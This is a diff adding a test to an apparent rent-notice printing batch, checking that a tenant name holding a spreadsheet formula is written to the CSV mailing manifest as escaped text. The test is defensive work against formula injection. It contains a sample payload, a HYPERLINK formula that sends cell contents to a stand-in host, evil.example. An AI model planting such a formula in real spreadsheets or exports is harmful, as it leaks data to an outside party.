@@ -354,3 +354,27 @@ def test_a_letter_that_cannot_be_printed_is_set_aside_and_the_others_print(queue
     # and a second batch neither prints it nor stops on it
     again = letters_batch(on=MARCH_6, output=tmp_path / "print2", actor="alice", workers=1)
     assert (again.letters, again.failed) == ([], [])
+
+
+def test_a_name_that_is_a_formula_reaches_the_print_vendor_as_text(queue, tmp_path):
+    # given: a tenant whose name, as some upstream system sent it, is a spreadsheet formula
+    evil = '=HYPERLINK("http://evil.example/?x="&A1,"Tina")'
+    Party.objects.filter(party_id="P-TINA").update(name=evil)
+    queue(
+        {
+            "account_id": "A-TINA",
+            "party_id": "P-TINA",
+            "step": "late-notice",
+            "template": "ny-late-rent-notice",
+            "amount": Decimal("1200.00"),
+        }
+    )
+    # when: the batch writes the mailing manifest
+    result = letters_batch(on=MARCH_6, output=tmp_path / "print", actor="alice", workers=1)
+    # then: the addressee is text in the spreadsheet, not a formula; the rest is as it was
+    assert result.manifest is not None
+    with result.manifest.open(encoding="utf-8", newline="") as stream:
+        (line,) = list(csv.DictReader(stream))
+    assert line["addressee"] == "'" + evil
+    assert line["account_id"] == "A-TINA"
+    assert line["date"] == "2026-03-06"
